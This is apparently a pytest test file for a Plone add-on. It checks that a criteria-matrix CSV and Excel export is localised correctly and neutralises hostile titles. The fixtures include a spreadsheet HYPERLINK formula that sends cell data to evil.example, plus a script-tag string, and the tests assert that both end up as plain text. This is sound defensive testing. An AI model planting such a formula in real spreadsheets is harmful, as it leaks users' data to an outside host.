"""The criteria matrix as people open it: a CSV that a French Excel splits right, in
the user's language with owners by name, and a workbook with a summary, coloured
statuses, a filtered table and the gaps (issue #12)."""

from collective.nrlabel.action_plan import plan_action
from collective.nrlabel.exports import LIGHT_COLOURS
from collective.nrlabel.exports import MATRIX_FIELDS
from datetime import date
from datetime import datetime
from nr_setup import add_audit
from nr_setup import assess
from nr_setup import criterion_at
from nr_setup import evidence_in_state
from nr_setup import PASSWORD
from plone import api

import csv
import io
import openpyxl
import pytest
import re
import requests
import transaction
import zipfile


TODAY = date(2026, 6, 15)
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez")'
SCRIPT = "<script>alert(1)</script>"
OWNER = "Élise Éditrice"


@pytest.fixture(autouse=True)
def today(clock):
    clock(TODAY)


@pytest.fixture
def assessed(functional_programme):
    """1.1.1 green, owned by Élise; 1.1.2 amber with a formula as title; 1.2.1 red
    with a target date and a planned action; 1.3.4 not applicable, justified."""
    programme = functional_programme
    programme.organisation = "Mairie de Test"
    api.user.get(userid="editor").setMemberProperties({"fullname": OWNER})
    first = assess(programme, "1.1.1", 2)
    first.owner = "editor"
    first.reindexObject()
    evidence_in_state(first, "approved", title="Charte")
    hostile = criterion_at(programme, "1.1.2")
    hostile.title = FORMULA
    hostile.reindexObject()
    evidence_in_state(hostile, "pending", title="Organigramme")
    red = criterion_at(programme, "1.2.1")
    red.target_date = date(2026, 9, 30)
    red.owner = "editor"
    red.reindexObject()
    scripted = criterion_at(programme, "1.2.2")
    scripted.title = SCRIPT
    scripted.reindexObject()
    with api.env.adopt_roles(["Manager"]):
        plan_action(
            red, "Rédiger la politique", responsible="editor", due_date=date(2026, 9, 1)
        )
    assess(programme, "1.3.4", None, applicable=False, justification="Pas une ESN.")
    add_audit(programme, date(2026, 6, 1), date(2026, 6, 30))
    transaction.commit()
    return programme


def download(programme, name, language="fr"):
    api.user.get(userid="lead").setMemberProperties({"language": language})
    transaction.commit()
    response = requests.get(
        f"{programme.absolute_url()}/@@{name}", auth=("lead", PASSWORD), timeout=60
    )
    assert response.status_code == 200
    return response.content


def csv_rows(content, delimiter):
    text = content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))
    return rows[0], {
        row[0]: dict(zip(MATRIX_FIELDS, row, strict=True)) for row in rows[1:]
    }


def test_csv_for_a_french_user(assessed):
    content = download(assessed, "nr-matrix.csv", "fr")
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads accents
    first_line = content.decode("utf-8-sig").splitlines()[0]
    assert first_line.startswith("Code;Thématique;Principe;Critère;Applicable;")
    assert first_line.endswith(";Responsable;Justification;Date cible")
    header, rows = csv_rows(content, ";")
    assert len(header) == len(MATRIX_FIELDS)
    assert rows["1.1.1"]["applicable"] == "oui"
    assert rows["1.3.4"]["applicable"] == "non"
    assert rows["1.1.1"]["readiness"] == "Couvert"
    assert rows["1.1.2"]["readiness"] == "À surveiller"
    assert rows["1.2.1"]["readiness"] == "Sans preuve"
    assert rows["1.3.4"]["readiness"] == "Non applicable"
    assert rows["1.1.1"]["maturity_label"] == "Déployé"
    assert rows["1.1.1"]["owner"] == OWNER
    assert rows["1.3.4"]["justification"] == "Pas une ESN."
    assert rows["1.2.1"]["target_date"] == "30/09/2026"
    assert rows["1.1.1"]["target_date"] == ""
    # Hostile titles are text, not formulas.
    assert rows["1.1.2"]["criterion"] == "'" + FORMULA
    assert rows["1.2.2"]["criterion"] == SCRIPT


def test_csv_for_an_english_user(assessed):
    content = download(assessed, "nr-matrix.csv", "en")
    assert content.startswith(b"\xef\xbb\xbf")
    first_line = content.decode("utf-8-sig").splitlines()[0]
    assert first_line.startswith("Code,Theme,Principle,Criterion,Applicable,")
    assert ";" not in first_line
    header, rows = csv_rows(content, ",")
    assert header[-2:] == ["Justification", "Target date"]
    assert rows["1.1.1"]["applicable"] == "yes"
    assert rows["1.3.4"]["applicable"] == "no"
    assert rows["1.1.1"]["readiness"] == "Covered"
    assert rows["1.1.1"]["owner"] == OWNER
    assert rows["1.2.1"]["target_date"] == "2026-09-30"  # ISO: every Excel reads it
    assert rows["1.1.2"]["criterion"] == "'" + FORMULA


def workbook(programme, language="fr"):
    content = download(programme, "nr-matrix.xlsx", language)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(r"<f[ >]", archive.read(name).decode()), name
    return openpyxl.load_workbook(io.BytesIO(content))


def by_code(sheet):
    return {row[0].value: row for row in sheet.iter_rows(min_row=2)}


def test_xlsx_criteria_sheet(assessed):
    book = workbook(assessed)
    assert book.sheetnames == ["Synthèse", "Critères", "Écarts"]
    sheet = book["Critères"]
    assert [c.value for c in sheet[1]][-2:] == ["Justification", "Date cible"]
    assert sheet.freeze_panes == "A2"
    last = openpyxl.utils.get_column_letter(len(MATRIX_FIELDS))
    assert sheet.auto_filter.ref == f"A1:{last}{sheet.max_row}"
    assert sheet.max_row == 48  # the header and the 47 criteria
    rows = by_code(sheet)
    column = {name: i for i, name in enumerate(MATRIX_FIELDS)}
    lights = {"1.1.1": "green", "1.1.2": "amber", "1.2.1": "red", "1.3.4": "na"}
    words = {"green": "Couvert", "amber": "À surveiller", "red": "Sans preuve"}
    words["na"] = "Non applicable"
    for code, light in lights.items():
        cell = rows[code][column["readiness"]]
        assert cell.value == words[light]  # the colour comes with its words
        assert cell.fill.fgColor.rgb[-6:] == LIGHT_COLOURS[light][0], code
    # Every criterion's status is coloured, one colour per light.
    fills = {row[column["readiness"]].fill.fgColor.rgb[-6:] for row in rows.values()}
    assert fills <= {background for background, _text in LIGHT_COLOURS.values()}
    assert rows["1.3.4"][column["justification"]].value == "Pas une ESN."
    target = rows["1.2.1"][column["target_date"]]
    assert target.is_date and target.value == datetime(2026, 9, 30)
    assert target.number_format == "dd/mm/yyyy"
    assert rows["1.1.1"][column["owner"]].value == OWNER
    title = rows["1.1.2"][column["criterion"]]
    assert title.value == "'" + FORMULA and title.data_type == "s"
    assert rows["1.2.2"][column["criterion"]].value == SCRIPT
    assert rows["1.1.1"][column["approved_evidence"]].data_type == "n"
    assert rows["1.1.1"][column["criterion"]].alignment.wrap_text


def test_xlsx_summary_and_gaps(assessed):
    book = workbook(assessed)
    summary = {row[0]: row[1:] for row in book["Synthèse"].iter_rows(values_only=True)}
    assert summary["Programme"][0] == "Programme NR"
    assert summary["Organisation"][0] == "Mairie de Test"
    assert summary["Exporté le"][0] == datetime(2026, 6, 15)
    assert summary["Préparation (%)"][0] == 2  # 1 of 46 applicable
    assert summary["Critères couverts"][0] == 1
    assert summary["Critères applicables"][0] == 46
    assert summary["Score (sur 1000)"][0] == round(1000 * 2 / 3 / 46)
    assert summary["Niveau prévu"][0].startswith("Sous le niveau 1")
    # Readiness and score per theme and per principle, titled.
    assert summary["1"] == ("Stratégie et gouvernance", 1, 11, 9, 61)
    assert summary["1.1"][1:] == (1, 3, 33, 222)
    assert summary["1.1"][0].startswith("Intégrer la stratégie NR")
    assert summary["2"][1:] == (0, 9, 0, 0)
    assert "Par thématique" in summary and "Par principe" in summary

    gaps = book["Écarts"]
    assert gaps.freeze_panes == "A2"
    assert gaps.auto_filter.ref == f"A1:F{gaps.max_row}"
    rows = by_code(gaps)
    assert "1.1.1" not in rows  # green
    assert "1.3.4" not in rows  # not applicable
    assert gaps.max_row - 1 == 45  # 46 applicable, 1 covered
    red = [cell.value for cell in rows["1.2.1"]]
    assert red[:4] == ["1.2.1", red[1], "Sans preuve", OWNER]
    assert red[4] == datetime(2026, 9, 30)
    assert red[5] == "Rédiger la politique"
    assert rows["1.2.1"][2].fill.fgColor.rgb[-6:] == LIGHT_COLOURS["red"][0]
    assert rows["1.1.2"][2].fill.fgColor.rgb[-6:] == LIGHT_COLOURS["amber"][0]
    assert rows["1.1.2"][1].value == "'" + FORMULA
    assert rows["1.1.2"][1].data_type == "s"


def test_xlsx_in_english(assessed):
    book = workbook(assessed, "en")
    assert book.sheetnames == ["Summary", "Criteria", "Gaps"]
    target = by_code(book["Criteria"])["1.2.1"][MATRIX_FIELDS.index("target_date")]
    assert target.number_format == "yyyy-mm-dd"
    summary = {row[0]: row[1] for row in book["Summary"].iter_rows(values_only=True)}
    assert summary["Predicted level"].startswith("Below level 1")
    assert summary["Readiness (%)"] == 2
